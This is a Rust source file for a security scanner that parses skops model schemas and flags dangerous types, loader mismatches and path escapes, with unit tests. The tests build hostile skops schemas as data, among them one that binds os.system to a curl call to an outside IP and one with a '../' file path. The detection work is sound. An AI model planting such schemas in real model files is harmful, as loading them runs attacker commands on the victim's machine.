//! skops schemas (`schema.json` in a `.skops` archive): the tree of nodes from which `skops.io.load` rebuilds objects.
//!
//! Source: `skops/io` (0.13) and the advisories CVE-2025-54412, CVE-2025-54413 and CVE-2025-54886. Every node names a
//! type, and the loader that builds it; both are weighed. Members of the archive are read by the archive reader.

mod calls;
mod node;
mod rules;

use self::node::Node;
use self::rules::{SKOPS_DANGEROUS_TYPE, SKOPS_LOADER_MISMATCH, SKOPS_PATH_ESCAPE, SKOPS_UNKNOWN_TYPE};
use super::malformed::{MALFORMED_STRUCTURE, broken, malformed};
use crate::text::indicators::inspect_metadata;
use crate::wire::json_tree::{self, Value};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Kind, Location, Rule};

/// skops schemas.
pub static SKOPS: Skops = Skops;

/// See [`SKOPS`].
#[derive(Debug, Clone, Copy)]
pub struct Skops;

/// How much of a file recognition looks at, in bytes: the keys of a schema stand at its very start or its very end.
const HEAD: usize = 2048;
/// Largest schema parsed, in bytes; data lies in other members, the largest published schemas have a few megabytes.
const LARGEST: usize = 256 << 20;

impl Format for Skops {
    fn id(&self) -> &'static str {
        "skops-schema"
    }

    fn name(&self) -> &'static str {
        "skops schema"
    }

    fn kind(&self) -> Kind {
        Kind::Model
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["json"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[
            &SKOPS_DANGEROUS_TYPE,
            &SKOPS_LOADER_MISMATCH,
            &SKOPS_UNKNOWN_TYPE,
            &SKOPS_PATH_ESCAPE,
            &MALFORMED_STRUCTURE,
        ]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = input.head(HEAD);
        if !head.trim_ascii_start().starts_with(b"{") {
            return Recognition::No;
        }
        let has = |bytes: &[u8], key: &[u8]| memchr::memmem::find(bytes, key).is_some();
        let is_node = has(head, b"\"__class__\"") && has(head, b"\"__module__\"");
        // A loader's name outside a node: a fragment, or a schema that was tampered with.
        let is_fragment =
            input.bytes.len() <= HEAD && (has(head, b"\"MethodNode\"") || has(head, b"\"OperatorFuncNode\""));
        if is_node
            || is_fragment
            || has(head, b"\"__loader__\"")
            || has(input.tail(HEAD), b"\"_skops_version\"")
        {
            Recognition::Certain
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        if input.bytes.len() > LARGEST {
            scan.gap(0, format!("a skops schema of more than {LARGEST} bytes is not parsed"));
            return;
        }
        let text = json_tree::decode(input.bytes);
        let document = json_tree::parse(&text);
        for id in document.ids().filter(|&id| document.is_object(id)) {
            if document.get(id, "__class__").is_some() {
                Node { document: &document, id }.judge(scan);
            }
        }
        if !document.ids().any(|id| document.get(id, "__class__").is_some()) {
            malformed(scan, 0, "the schema names skops loaders and has no node they could load");
        }
        for id in document.ids() {
            // Values of `JsonNode`s are JSON text of their own.
            if let Value::Text(text) = document.value(id)
                && text.len() > 8
                && !document.key(id).starts_with("__")
            {
                let place = Location {
                    offset: Some(document.offset(id)),
                    pointer: Some(document.pointer(id)),
                    ..Location::default()
                };
                inspect_metadata(text, &place, scan);
            }
        }
        if let Some(error) = &document.error {
            broken(scan, error.offset, format!("the schema breaks off: {}", error.reason));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{outcome, rules_of};
    use bartizan_core::Severity;
    use proptest::prelude::*;

    fn node(class: &str, module: &str, loader: &str, content: &str) -> Vec<u8> {
        format!("{{\"__class__\": \"{class}\", \"__module__\": \"{module}\", \"__loader__\": \"{loader}\", \"content\": {content}}}").into_bytes()
    }

    #[test]
    fn an_estimator_of_scikit_learn_is_clean() {
        let schema = node("LogisticRegression", "sklearn.linear_model._logistic", "ObjectNode", "{}");
        assert_eq!(rules_of(&SKOPS, &schema), Vec::<&str>::new());
        assert_eq!(SKOPS.recognise(&Input::new("schema.json", &schema)), Recognition::Certain);
    }

    #[test]
    fn a_function_that_runs_commands_is_dangerous() {
        let schema = node(
            "function",
            "builtins",
            "FunctionNode",
            "{\"module_path\": \"os\", \"function\": \"system\"}",
        );
        assert!(outcome(&SKOPS, &schema).findings[0].severity >= Severity::High);
    }

    #[test]
    fn an_operator_behind_another_modules_name_is_a_mismatch() {
        let found = outcome(&SKOPS, &node("call", "builtins", "OperatorFuncNode", "{}"));
        assert!(found.findings.iter().any(|finding| finding.rule.id == "model/skops-loader-mismatch"));
        assert_eq!(
            rules_of(&SKOPS, &node("itemgetter", "operator", "OperatorFuncNode", "{}")),
            Vec::<&str>::new()
        );
    }

    #[test]
    fn a_method_of_another_object_than_shown_is_a_mismatch() {
        let inner = String::from_utf8(node("Evil", "evil", "ObjectNode", "{}")).unwrap();
        let schema =
            node("int", "builtins", "MethodNode", &format!("{{\"func\": \"run\", \"obj\": {inner}}}"));
        assert_eq!(rules_of(&SKOPS, &schema)[0], "model/skops-loader-mismatch");
        let inner = String::from_utf8(node("int", "builtins", "ObjectNode", "{}")).unwrap();
        let schema =
            node("int", "builtins", "MethodNode", &format!("{{\"func\": \"run\", \"obj\": {inner}}}"));
        assert_eq!(rules_of(&SKOPS, &schema), Vec::<&str>::new());
    }

    #[test]
    fn an_unknown_type_is_low_and_a_file_outside_is_high() {
        assert_eq!(
            rules_of(&SKOPS, &node("Thing", "__main__", "ObjectNode", "{}")),
            ["model/skops-unknown-type"]
        );
        let schema = br#"{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "file": "../x.npy"}"#;
        assert_eq!(rules_of(&SKOPS, schema), ["model/skops-path-escape"]);
    }

    #[test]
    fn a_partial_is_judged_by_the_function_and_what_it_is_bound_to() {
        let bound = |module: &str, function: &str, text: &str| {
            let function = format!(
                r#"{{"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {{"module_path": "{module}", "function": "{function}"}}}}"#
            );
            let text = format!(
                r#"{{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "\"{text}\""}}"#
            );
            let args = format!(
                r#"{{"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [{text}]}}"#
            );
            let schema = node(
                "partial",
                "functools",
                "PartialNode",
                &format!(r#"{{"func": {function}, "args": {args}}}"#),
            );
            let found = outcome(&SKOPS, &schema);
            found.findings.into_iter().map(|finding| (finding.severity, finding.message)).max()
        };
        let (severity, message) = bound("os", "system", "curl http://203.0.113.7/x").unwrap();
        assert_eq!(severity, Severity::Critical);
        assert!(message.contains("runs `curl`"), "{message}");
        assert_eq!(bound("my_package", "fetch", "http://203.0.113.7/x").unwrap().0, Severity::High);
        assert_eq!(bound("numpy", "sqrt", "x"), None);
    }

    #[test]
    fn an_object_made_without_its_constructor_is_not_judged_by_it() {
        let made =
            node("SentenceTransformer", "sentence_transformers.SentenceTransformer", "ObjectNode", "{}");
        assert_eq!(rules_of(&SKOPS, &made), Vec::<&str>::new());
        assert_eq!(
            outcome(&SKOPS, &node("system", "os", "ObjectNode", "{}")).findings[0].severity,
            Severity::Critical
        );
    }

    proptest! {
        #[test]
        fn any_text_gives_a_result(text in "[\\{\\}\\[\\]\",:a-z_]{0,100}") {
            outcome(&SKOPS, format!("{{\"__class__\": \"x\", \"__module__\": {text}").as_bytes());
        }
    }
}
